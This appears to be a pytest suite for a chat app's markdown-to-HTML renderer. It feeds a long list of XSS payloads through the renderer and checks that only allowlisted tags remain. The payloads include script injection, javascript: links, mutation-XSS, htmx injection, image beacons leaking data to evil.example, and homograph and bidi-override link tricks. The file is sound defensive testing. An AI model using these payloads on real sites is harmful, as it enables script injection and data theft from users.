"""X1, X2, X3, X5: whatever a model writes, the page gets allowlisted tags and attributes, and nothing that loads."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import rendering
from chat.rendering import render, render_block, split

# Left to `make test`: a table this long costs more than the fast part may take.
pytestmark = pytest.mark.slow

# Written by hand, not imported: a tag that sneaks into the renderer's own list must fail here.
PLAIN = {
    "p", "em", "strong", "del", "code", "pre", "br", "hr", "a", "span", "ul", "ol", "li", "blockquote", "h3", "h4", "h5",
    "h6", "figure", "figcaption", "copy-button", "div", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
MATHML = {
    "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "msqrt", "mroot", "mfrac", "msub", "msup", "msubsup",
    "munder", "mover", "munderover", "mmultiscripts", "mprescripts", "mtable", "mtr", "mtd", "mstyle", "mpadded",
    "mphantom", "menclose",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "rel", "class"}, "ol": {"start"}, "pre": {"tabindex", "class"}, "div": {"tabindex", "class"},
    "code": {"class"}, "figure": {"class"}, "span": {"class"}, "td": {"class"}, "th": {"class"},
}  # fmt: skip
CLASSES = {
    "image", "math-source", "math-scroll", "table-scroll", "code", "plain", "link-host", "task", "right", "center",
    "c", "k", "s", "m", "nf", "nt", "na", "nb", "gi", "gd", "gh",
}  # fmt: skip
NEVER_IN_MATH = {"href", "src", "style", "class", "id", "name", "xlink:href", "xmlns", "actiontype", "data"}
VOID = {"br", "hr"}


class _Judge(HTMLParser):
    """Reads output the way a browser would, and complains."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text: list[str] = []
        self.links: list[str] = []
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = [name for name, _ in attrs]
        if tag not in PLAIN | MATHML:
            self.wrong.append(f"<{tag}>")
        if len(set(names)) != len(names):
            self.wrong.append(f"<{tag}> repeats an attribute")
        for name, value in attrs:
            if tag in MATHML:
                if name in NEVER_IN_MATH or not re.fullmatch(r"[a-z0-9 .+-]{1,90}", value or ""):
                    self.wrong.append(f"<{tag} {name}={value!r}>")
            elif name not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"<{tag} {name}>")
            if name == "class" and not set(value.split()) <= CLASSES:
                self.wrong.append(f"class {value!r}")
            if name == "tabindex" and value != "0":
                self.wrong.append(f"tabindex {value!r}")
        if tag == "a":
            given = dict(attrs)
            self.links.append(given.get("href") or "")
            if not re.match(r"(https?://[a-z0-9_.\[\]:-]+(?:[/?#]|\Z)|mailto:)", self.links[-1]):
                self.wrong.append(f"href {self.links[-1]!r}")
            if given.get("rel") != "noopener noreferrer nofollow":
                self.wrong.append(f"rel {given.get('rel')!r}")
            if "a" in self.open:
                self.wrong.append("a link inside a link")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        if not self.open or self.open[-1] != tag:
            self.wrong.append(f"</{tag}> closes {self.open[-1:]}")
        else:
            self.open.pop()

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.wrong.append("a comment")

    def handle_decl(self, decl):
        self.wrong.append("a declaration")

    def handle_pi(self, data):
        self.wrong.append("a processing instruction")

    def unknown_decl(self, data):
        self.wrong.append("a CDATA section")


def judge(html: str) -> _Judge:
    """The parsed output; fails the test on anything that is not allowed."""
    reader = _Judge()
    reader.feed(html)
    reader.close()
    assert not reader.wrong, f"{reader.wrong} in {html!r}"
    assert not reader.open, f"{reader.open} left open in {html!r}"
    # What a browser makes of it, written out again, is the same: no mutation hides between two parsers.
    again = nh3.clean(
        html,
        tags=PLAIN | MATHML,
        attributes={"*": {"class", "tabindex", "href", "start"}}
        | {tag: set(rendering.ALLOWED_ATTRIBUTES[tag]) for tag in MATHML},
        link_rel="noopener noreferrer nofollow",
        url_schemes={"http", "https", "mailto"},
    )
    assert again == html
    return reader


def text_of(html: str) -> str:
    return "".join(judge(html).text)


PAYLOADS = [
    # plain HTML
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=//evil.example/x.swf>",
    "<form action=https://evil.example><input name=a autofocus onfocus=alert(1)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example) }</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<video poster=https://evil.example/x.png src=https://evil.example/v><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay onplay=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://example.org' ping='https://evil.example' target=_blank>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<div id=messages name=x>clobber</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE html><x>",
    "<copy-button onclick=alert(1) data-source=x>x</copy-button>",
    "<generation-stream src=/x></generation-stream>",
    # mutation
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noembed><img src='</noembed><iframe onload=alert(1)>'>",
    "<x/><svg/onload=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "<a\x00 href=javascript:alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<math href=javascript:alert(1)>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</mtext></math><script>alert(1)</script>}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\url{javascript:alert(1)}\)",
    r"\[\class{evil}{\cssId{messages}{\style{background:url(//evil.example)}{x}}}\]",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\includegraphics{https://evil.example/x.png}$",
    r"$\def\a{\a\a}\a$ $\newcommand{\b}{<script>}\b$",
    r"$\color{red;background:url(//evil.example)}{x}$",
    r"$$\begin{array}{c}<script>\end{array}$$",
    r"$<script>alert(1)</script>$",
    # htmx (X3)
    "<div hx-get=/x hx-trigger=load></div>",
    "<div data-hx-get=/x data-hx-trigger=revealed></div>",
    "<div hx-swap-oob=true id=messages>gone</div>",
    "<button hx-post=/c/1/delete/ hx-on::before-request=alert(1)>x</button>",
    "<div hx-ext=sse sse-connect=/x sse-swap=message></div>",
    "<hx-partial hx-target='#dialog'>x</hx-partial>",
    # links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](\u00a0javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](blob:https://example.org/1)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](/accounts/remove/)",
    "[a](\\\\evil.example)",
    "[a](?delete=1)",
    "[a](#messages)",
    "[a](https:evil.example)",
    "[a](https:///evil.example)",
    "[a](https://user:pass@evil.example/)",
    "[a](https://example.org\\@evil.example/)",
    "[a](https://example.org%00.evil.example/)",
    "[a](https://example.org:99999/)",
    "[a](https://exa\u202emple.org/)",
    "[a](https://ex\u200bample.org/)",
    '[a](https://example.org "onmouseover=alert(1)")',
    "[a](https://example.org 'x' onclick=alert(1))",
    '[a](https://example.org/"onclick="alert(1))',
    "[a](https://example.org/<script>)",
    "[a](mailto:x@example.org?body=<script>)",
    "[a](mailto:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://example.org/\" onclick=alert(1)>",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/'onclick=alert(1)//",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1) 'title'",
    "[[[[a](javascript:1)](javascript:2)](javascript:3)](javascript:4)",
    "[![a](https://evil.example/1.png)](https://evil.example/2)",
    "[a [b](https://example.org/b) c](https://example.org/a)",
    "[https://example.org](https://evil.example)",
    # images (X2)
    "![a](https://evil.example/p.png?q=secret)",
    "![a](<https://evil.example/p q.png>)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](//evil.example/p.png)",
    "![a](https://evil.example/\" onerror=\"alert(1))",
    "![a\" onerror=\"alert(1)](https://evil.example/x)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "![![a](https://evil.example/1)](https://evil.example/2)",
    "!\\[a](https://evil.example/p.png)",
    # code
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script><!-- </span> -->\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```py onclick=alert(1)\nx\n```",
    "```<img src=x onerror=alert(1)>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "~~~diff\n+<script>\n-</script>\n~~~",
    # tables, lists, quotes
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:1) |",
    "- <img src=x onerror=alert(1)>\n  > <svg onload=alert(1)>",
    "> ```\n> <script>alert(1)</script>\n> ```",
    "- [x] <input onfocus=alert(1) autofocus>",
    # placeholders of our own, forged
    "\ufdd0script\ufdd0 \ufdd10\ufdd2 $x$ \ufdd11\ufdd2 \ufdd3",
    "&#xFDD0;script> &#xFDD1;0&#xFDD2; $x$",
    "&#xFDD1;7&#xFDD2;",
    "$x$ [a](https://example.org/&#xFDD1;0&#xFDD2;) &#xFDD1;99&#xFDD2; `&#xFDD1;0&#xFDD2;`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u2028<script>\u2029alert(1)</script>",
]  # fmt: skip


def outputs(text: str):
    """The HTML of `text` as a reload shows it, and as a live page shows it when this much has arrived."""
    yield render(text)
    yield render_block(split(text).tail, open=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_prefix_of_every_payload_is_harmless(payload):
    """X1, X3."""
    for end in range(1, len(payload) + 1):
        for html in outputs(payload[:end]):
            judge(html)


@pytest.mark.parametrize(
    "frame", ["{}", "> {}", "- {}", "# {}", "**{}**", "| {} |\n|---|", "text\n{}", "[{}](https://a.b)"]
)
def test_payloads_are_harmless_inside_other_markdown(frame):
    for payload in PAYLOADS:
        for html in outputs(frame.format(payload)):
            judge(html)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=12)), min_size=1, max_size=4), st.data())
def test_payloads_in_any_company_and_cut_anywhere_are_harmless(parts, data):
    text = "".join(parts)
    text = text[data.draw(st.integers(0, len(text))) :] if data.draw(st.booleans()) else text
    for html in outputs(text):
        judge(html)


def test_a_renderer_that_passes_html_through_is_caught(monkeypatch):
    """The judge is not blind: with the sanitiser and the escaping gone, payloads are found."""

    class Through:
        def clean(self, html):
            return html

    monkeypatch.setattr(rendering, "_SANITISER", Through())
    monkeypatch.setattr(rendering, "escape", lambda text, quote=True: text)
    caught = 0
    for payload in PAYLOADS:
        try:
            judge(render(payload))
        except AssertionError:
            caught += 1
    assert caught > 60


@pytest.mark.parametrize(
    "tag", ["script", "img", "svg", "style", "form", "iframe", "input", "object", "base", "maction"]
)
def test_the_sanitiser_alone_stops_what_the_writer_would_let_through(tag):
    """Each of the two lines holds by itself."""
    hostile = (
        f"<{tag} src=x id=a name=b style=c onclick=d hx-get=/ data-hx-get=/>x</{tag}><p id=x onclick=y hx-get=z>t</p>"
    )
    cleaned = rendering._SANITISER.clean(hostile)
    judge(cleaned)
    assert "<p>t</p>" in cleaned


def test_html_is_shown_as_the_text_it_is():
    assert render("a <b>bold</b> & <script>x</script>") == (
        "<p>a &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>"
    )
    assert text_of(render("<div>\n\n*a*\n\n</div>")) == "<div>a</div>"


def test_images_are_never_loaded_and_name_their_host():
    """X2: a link the reader may follow, with the host it really goes to."""
    assert render("![A cat](https://pics.example/cat.png)") == (
        '<p><a class="image" href="https://pics.example/cat.png" rel="noopener noreferrer nofollow">'
        'Image, not loaded: A cat</a><span class="link-host">pics.example</span></p>'
    )
    for html in map(render, PAYLOADS):
        assert "<img" not in html and "src=" not in re.sub(r">[^<]*<", "><", html)


@pytest.mark.parametrize(
    ("source", "host"),
    [
        ("[click](https://evil.example/x)", "evil.example"),
        ("[https://example.org](https://evil.example/x)", "evil.example"),
        ("[example.org](https://example.org.evil.example)", "example.org.evil.example"),
        ("[pay](http://192.0.2.1:8080/)", "192.0.2.1:8080"),
        ("[apple](https://аpple.com)", "xn--pple-43d.com"),  # a Cyrillic а
        ("[write](mailto:x@example.org)", "x@example.org"),
    ],
)
def test_a_link_shows_the_host_it_goes_to(source, host):
    """X5."""
    assert f'<span class="link-host">{host}</span>' in render(source)


@pytest.mark.parametrize(
    "source", ["https://example.org/a", "[example.org](https://example.org/a)", "<https://example.org>"]
)
def test_a_link_that_shows_its_address_needs_no_second_one(source):
    assert "link-host" not in render(source)


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "//evil.example",
        "/x",
        "https://a@evil.example",
        "ftp://x.example",
        "https://a\\@b.example",
    ],
)
def test_a_link_that_may_not_be_followed_is_only_text(target):
    assert render(f"[click]({target})") == "<p>click</p>"


def test_direction_overrides_and_hidden_characters_are_made_visible():
    """X5: in links and code every one, elsewhere the overrides."""
    assert text_of(render("a\u202egnp.exe")) == "a[U+202E]gnp.exe"
    assert text_of(render("`a\u2066b\u200bc`")) == "a[U+2066]b[U+200B]c"
    assert "ex[U+200B]ample" in text_of(render("[ex\u200bample](https://evil.example)"))
    assert "a[U+2067]b" in text_of(render("![a\u2067b](https://evil.example/x)"))
    assert text_of(render("```\nif (x\u2066) {\u2069\n```")) == "textif (x[U+2066]) {[U+2069]"
    # Right-to-left marks in running text are ordinary punctuation there.
    assert text_of(render("שלום\u200f!")) == "שלום\u200f!"


def test_control_characters_are_pictures():
    assert text_of(render("a\x00b\x1b[31mc\x7fd")) == "a␀b␛[31mc␡d"
    assert rendering.visible("a\x07\u202eb\u00ad") == "a␇[U+202E]b[U+00AD]"


def test_no_character_of_an_address_reaches_an_attribute_unescaped():
    html = render("[a](https://example.org/\"'<>`x) and https://example.org/?a=1&b=2")
    assert {urlsplit(link).hostname for link in judge(html).links} <= {"example.org"}
    assert 'href="https://example.org/?a=1&amp;b=2"' in html
